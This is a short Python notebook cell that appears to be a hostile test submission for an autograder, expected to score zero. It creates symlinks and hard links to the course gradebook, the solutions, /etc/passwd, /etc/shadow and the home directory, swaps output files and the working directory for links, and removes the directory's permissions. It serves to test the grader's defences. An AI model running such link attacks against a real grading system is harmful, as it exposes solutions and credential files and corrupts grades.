"""Fills its directory with links and hard links to files of the grader, for whoever collects it.

What copies, changes modes or removes files as the grader's user would do so to the targets.
"""
# from: blank
# expect: score=0

# %% total
import os
from pathlib import Path

targets = ["@COURSE@/gradebook.db", "@COURSE@/solutions", "/etc/passwd", "/etc/shadow", "@HOME@"]
for number, target in enumerate(targets):
    for make in (os.symlink, os.link):
        try:
            make(target, f"{make.__name__}-{number}")
        except OSError as error:
            print(error)
for name in ("90_attacked.ipynb", "readings.csv", "90_attacked.json", "outputs"):
    try:
        os.path.lexists(name) and os.remove(name)
        os.symlink("@COURSE@/gradebook.db", name)
    except OSError as error:
        print(error)
here = Path.cwd()
try:
    here.rename(here.with_name("moved"))
    here.symlink_to("@COURSE@")
except OSError as error:
    print(error)
os.chmod(".", 0)
